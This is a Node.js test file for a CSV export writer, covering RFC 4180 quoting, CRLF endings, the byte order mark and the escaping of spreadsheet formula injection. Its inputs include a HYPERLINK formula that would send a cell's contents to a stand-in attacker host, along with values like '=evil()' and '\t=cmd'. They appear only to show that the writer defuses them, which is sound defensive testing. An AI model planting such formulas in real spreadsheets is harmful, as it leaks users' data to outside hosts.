// The CSV writer of the operator's exports: RFC 4180 framing and the
// neutralisation of cells a spreadsheet would run as formulas. Each case is
// checked against the exact text and read back with an independent strict
// RFC 4180 reader.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { CSV_BOM, csvField, csvRecord, csvText } from '../server/csv.mjs';
import { parseCsv } from './helpers/csv-reader.mjs';


const check = (/** @type {unknown} */ value, /** @type {string} */ written, /** @type {string} */ read) => {
  assert.equal(csvField(value), written, `written form of ${JSON.stringify(value)}`);
  assert.deepEqual(parseCsv(csvRecord(['a', value, 'z'])), [['a', read, 'z']], `read back ${JSON.stringify(value)}`);
};

test('formula starts are neutralised with an apostrophe; the rest of the value is kept', () => {
  check('=1+1', "'=1+1", "'=1+1");
  check('=HYPERLINK("http://evil.example/?x="&A1,"click")', `"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`, `'=HYPERLINK("http://evil.example/?x="&A1,"click")`);
  check('+41 22 000', "'+41 22 000", "'+41 22 000");
  check('-2+3', "'-2+3", "'-2+3");
  check('@SUM(A1:A9)', "'@SUM(A1:A9)", "'@SUM(A1:A9)");
  check('\t=cmd', "'\t=cmd", "'\t=cmd");
  check('\r=cmd', `"'\r=cmd"`, "'\r=cmd");
  check('＝1+1', "'＝1+1", "'＝1+1");
  // Only the start matters: a formula sign later in the text is plain text.
  check('a=b', 'a=b', 'a=b');
  check(' =not first', ' =not first', ' =not first');
});

test('numbers are written as numbers, negative ones included; null and undefined are empty', () => {
  check(101, '101', '101');
  check(-5, '-5', '-5');
  check(null, '', '');
  check(undefined, '', '');
  check(Number.NaN, 'NaN', 'NaN');
  check('-5', "'-5", "'-5");
});

test('quotes, commas, CR, LF and CRLF inside values are quoted and survive the round trip', () => {
  check('say "hi"', '"say ""hi"""', 'say "hi"');
  check('a,b', '"a,b"', 'a,b');
  check('line 1\nline 2', '"line 1\nline 2"', 'line 1\nline 2');
  check('line 1\r\nline 2', '"line 1\r\nline 2"', 'line 1\r\nline 2');
  check('"', '""""', '"');
  check('', '', '');
});

test('non-ASCII text is kept as it is (UTF-8 with a byte order mark at the start of the file)', () => {
  check('Grüße, 日本語 🙂', '"Grüße, 日本語 🙂"', 'Grüße, 日本語 🙂');
  const text = csvText([{ header: 'name', value: (/** @type {string} */ r) => r }], ['Zoë', 'Ελληνικά']);
  assert.ok(text.startsWith(CSV_BOM));
  const bytes = Buffer.from(text, 'utf8');
  assert.deepEqual([...bytes.subarray(0, 3)], [0xef, 0xbb, 0xbf]);
  assert.deepEqual(parseCsv(bytes.toString('utf8').slice(1)), [['name'], ['Zoë'], ['Ελληνικά']]);
});

test('a table: header row first, every record ends with CRLF, same number of fields in every record', () => {
  /** @type {{header: string, value: (r: {n: number, t: string|null}) => unknown}[]} */
  const columns = [{ header: 'n', value: (r) => r.n }, { header: 'text', value: (r) => r.t }];
  const text = csvText(columns, [{ n: 1, t: 'plain' }, { n: 2, t: '=evil()' }, { n: 3, t: null }, { n: 4, t: 'two\nlines, "quoted"' }]);
  assert.equal(text, `${CSV_BOM}n,text\r\n1,plain\r\n2,'=evil()\r\n3,\r\n4,"two\nlines, ""quoted"""\r\n`);
  const rows = parseCsv(text.slice(1));
  assert.deepEqual(rows, [['n', 'text'], ['1', 'plain'], ['2', "'=evil()"], ['3', ''], ['4', 'two\nlines, "quoted"']]);
  assert.ok(rows.every((r) => r.length === 2));
  // Every line break outside quotes is CRLF: no bare LF between records.
  assert.equal(text.replaceAll('"two\nlines', '').split('\n').every((l, i, all) => i === all.length - 1 || l.endsWith('\r')), true);
});

test('the test reader itself refuses what RFC 4180 does not allow', () => {
  assert.throws(() => parseCsv('a,b\nc,d'), /bare/);
  assert.throws(() => parseCsv('a"b'), /quote inside/);
  assert.throws(() => parseCsv('"open'), /unterminated/);
});
